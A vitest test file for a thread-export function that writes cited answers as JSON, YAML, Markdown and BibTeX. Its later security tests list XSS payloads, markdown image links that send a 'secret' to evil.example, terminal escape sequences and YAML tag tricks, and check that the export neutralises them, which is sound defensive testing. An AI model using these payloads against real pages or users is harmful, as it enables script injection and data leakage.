import fc from 'fast-check'
import { Marked } from 'marked'
import { describe, expect, it } from 'vitest'
import { parse } from 'yaml'
import { type ExportedThread, exportThread } from '../../../../../src/cli/shared/export-thread.ts'
import type { DocumentRecord } from '../../../../../src/index.ts'
import { citation } from '../../run-result.ts'

const paper: DocumentRecord = {
  documentId: '0123456789abcdef',
  title: 'The {BERT} & 100% of_it: a #study',
  authors: ['Wei Zhang', 'de la Cruz, Ana', 'Smith and Sons'],
  year: 2021,
  source: 'papers/a_b.pdf',
  format: 'pdf',
  pages: 9,
  passages: 90,
  tags: [],
  addedAt: null,
}

const thread: ExportedThread = {
  threadId: 'thread-1',
  messages: [
    { role: 'user', content: 'How accurate\nis it?', runId: 'run-1', createdAt: '2025-01-01T00:00:00.000Z' },
    {
      role: 'assistant',
      content: 'It reaches **87.2 %** [1][2].',
      runId: 'run-1',
      createdAt: '2025-01-01T00:00:01.000Z',
      citations: [
        citation(),
        citation({
          marker: 2,
          documentId: 'feedfeedfeedfeed',
          title: 'On the web',
          source: 'https://one.example/a?x={1}&y=%20',
        }),
      ],
    },
    { role: 'user', content: 'And then?', runId: 'run-2', createdAt: '2025-01-01T00:00:02.000Z' },
    {
      role: 'assistant',
      content: 'Nothing [1].',
      runId: 'run-2',
      createdAt: '2025-01-01T00:00:03.000Z',
      citations: [citation()],
    },
  ],
  runs: [
    {
      runId: 'run-1',
      threadId: 'thread-1',
      status: 'completed',
      question: 'How accurate\nis it?',
      startedAt: '2025-01-01T00:00:00.000Z',
      endedAt: '2025-01-01T00:00:01.000Z',
    },
  ],
  documents: [paper],
}

describe('a thread that is exported', () => {
  it('as JSON and YAML holds the messages with their citations, and the runs', () => {
    const expected = {
      threadId: 'thread-1',
      messages: thread.messages.map(({ role, content, citations }) => ({
        role,
        content,
        ...(citations && { citations }),
      })),
      runs: thread.runs,
    }
    expect(JSON.parse(exportThread(thread, 'json'))).toEqual(expected)
    expect(parse(exportThread(thread, 'yaml'))).toEqual(expected)
  })

  it('as Markdown reads as a conversation with footnotes', () => {
    expect(exportThread({ ...thread, messages: thread.messages.slice(0, 2) }, 'md')).toBe(`# Thread thread-1

## Question

> How accurate
> is it?

## Answer

It reaches **87.2 %** [1][2].

- [1] Zhang et al., 2021, p. 5 — "an accuracy of 87.2 %" (a.pdf)
- [2] Zhang et al., 2021, p. 5 — "an accuracy of 87.2 %" (https://one.example/a?x={1}&y=%20)
`)
  })

  it('says which sentences of an answer are only quoted', { tags: ['Q2'] }, () => {
    const sentences = [{ text: 'It reaches **87.2 %**.', state: 'quoted' as const, markers: [1], reason: 'not read' }]
    const told = { ...thread, messages: [{ ...thread.messages[1]!, sentences }] }
    expect(exportThread(told, 'md')).toMatch(/\n\nQuoted, not read again: sentence 1 \(not read\)\n$/)
    expect(JSON.parse(exportThread(told, 'json'))).toMatchObject({ messages: [{ sentences }] })
    expect(parse(exportThread(told, 'yaml'))).toMatchObject({ messages: [{ sentences }] })
  })

  it('has the note on an answer behind it', { tags: ['Q21'] }, () => {
    const note = { text: 'Seen in print.\n\n## Answer', userId: 'ada', writtenAt: '2025-01-02T03:04:05.000Z' }
    const noted = { ...thread, messages: [{ ...thread.messages[1]!, note }] }
    expect(exportThread(noted, 'md')).toMatch(/\n\n> Note by ada, 2025-01-02:\n> Seen in print\.\n> \n> ## Answer\n$/)
    expect(JSON.parse(exportThread(noted, 'json'))).toMatchObject({ messages: [{ note }] })
    expect(parse(exportThread(noted, 'yaml'))).toMatchObject({ messages: [{ note }] })
  })

  it('as BibTeX names each cited document once, escaped, under a stable key', () => {
    expect(exportThread(thread, 'bibtex')).toBe(`@misc{zhang2021bert-012345,
  author = {Wei Zhang and de la Cruz, Ana and {Smith and Sons}},
  title = {{The \\textbraceleft{}BERT\\textbraceright{} \\& 100\\% of\\_it: a \\#study}},
  year = {2021},
  howpublished = {papers/a\\_b.pdf},
}

@misc{document-feedfe,
  title = {{On the web}},
  url = {https://one.example/a?x=%7B1%7D&y=%20},
}
`)
    const alone = exportThread({ ...thread, messages: thread.messages.slice(2) }, 'bibtex')
    expect(alone).toContain('@misc{zhang2021bert-012345,')
    expect(alone).not.toContain('feedfe')
  })

  it('as BibTeX keeps whole what a footnote cuts short', () => {
    const title = 'How lantern fish of the deep lakes find their food at night, and why it matters'
    const label = 'How lantern fish of the deep lakes find their food at night…, § Food'
    const messages = [{ ...thread.messages[1]!, citations: [citation({ label, title })] }]
    const documents = [{ ...paper, title, authors: [], source: 'papers/fish.docx', format: 'docx' as const }]
    for (const known of [documents, []]) {
      const bibtex = exportThread({ ...thread, messages, documents: known }, 'bibtex')
      expect(bibtex).toContain(`title = {{${title}}}`)
      expect(bibtex).not.toContain('§')
    }
  })

  it('as BibTeX is empty where nothing is cited', () => {
    expect(exportThread({ ...thread, messages: thread.messages.slice(0, 1) }, 'bibtex')).toBe('')
  })
})

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '\\<img src=x onerror=alert(1)>',
  '![p](https://evil.example/?q=secret)',
  '\\![p](https://evil.example/?q=secret)',
  '![p][1]\n\n[1]: https://evil.example/?q=secret',
  '> [1]: https://evil.example/\n\n[1]',
  '[bank](https://evil.example/)',
  '\\[bank](javascript:alert(1))',
  '[a]\\](javascript:alert(1))',
  '<https://evil.example/>',
  '<!-- --><iframe src="//evil.example">',
  '```\n![p](https://evil.example/)\n```\n![p](https://evil.example/)',
  '[![p](https://evil.example/i)](https://evil.example/)',
]

describe('hostile text in an export', { tags: ['S22'] }, () => {
  it.each(hostile)('as Markdown, %j loads nothing and links nowhere unseen', (content) => {
    const html = rendered(content).replace(/<a href="([^"]*)">([^<]*)<\/a>/g, (link, href: string, shown: string) =>
      URL.canParse(shown) && new URL(shown).origin === new URL(href).origin ? shown : link,
    )
    expect(html).not.toMatch(/<(?!\/?(?:h[1-6]|p|ul|ol|li|blockquote|pre|code|em|strong|br|hr)\b)[a-z!/]/i)
  })

  it('as Markdown, no text makes an image, markup or a link', () => {
    const pieces = fc.constantFrom(
      '!',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      ':',
      '\\',
      '`',
      '\n',
      ' ',
      'a',
      'img src=x',
      '/u',
      '&lt;',
      '1',
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
        expect(rendered(parts.join(''))).not.toMatch(/<(?:img|a)\b/i)
      }),
      { numRuns: 3000 },
    )
  })

  it('as BibTeX, no title, author, path or address ends its field or begins another entry', () => {
    const text = fc.string({ unit: fc.constantFrom(...'{}\\"@,=%#~^$&_ \nax\u001b'), maxLength: 30 })
    fc.assert(
      fc.property(text, text, text, (title, author, source) => {
        const documents = [{ ...paper, title, authors: [author], source }]
        const bibtex = exportThread({ ...thread, messages: thread.messages.slice(2), documents }, 'bibtex')
        expect(bibtex.match(/^@/gm)).toHaveLength(1)
        expect(endOfEntry(bibtex)).toBe(bibtex.lastIndexOf('}'))
      }),
      { numRuns: 1000 },
    )
  })

  it.each(['md', 'json', 'yaml', 'bibtex'] as const)('as %s holds no terminal command', { tags: ['S21'] }, (format) => {
    const text = 'a\u001b]0;owned\u0007\u009b31mb\r\u007f'
    const note = { text, userId: text, writtenAt: '2025-01-01T00:00:00.000Z' }
    const cited = citation({ label: text, quote: text, title: text, source: text })
    const messages = [
      { role: 'assistant' as const, content: text, runId: text, createdAt: '', citations: [cited], note },
    ]
    const exported = exportThread({ ...thread, messages, documents: [] }, format)
    expect(exported).not.toMatch(/(?!\n)\p{Cc}|owned|31m/u)
  })

  it('as YAML, keys and tags in text stay text', () => {
    const content = '- a: !!js/function "x"\n*anchor\n---\n? {b: 1} # no comment'
    const messages = [{ role: 'user' as const, content, runId: 'r', createdAt: '' }]
    expect(parse(exportThread({ ...thread, messages, runs: [] }, 'yaml'))).toEqual({
      threadId: 'thread-1',
      messages: [{ role: 'user', content }],
      runs: [],
    })
  })
})

/** What a page with HTML would show of an answer with this text, and with a note that says the same. */
function rendered(content: string): string {
  const note = { text: content, userId: content, writtenAt: '2025-01-01T00:00:00.000Z' }
  const messages = [{ role: 'assistant' as const, content, runId: 'r', createdAt: '', note }]
  return new Marked().parse(exportThread({ ...thread, messages }, 'md'), { async: false })
}

/** Where BibTeX sees the first entry end: at the brace that closes its first one. */
function endOfEntry(bibtex: string): number {
  let depth = 0
  for (const { 0: brace, index } of bibtex.matchAll(/[{}]/g)) {
    depth += brace === '{' ? 1 : -1
    if (depth === 0) return index
  }
  return -1
}
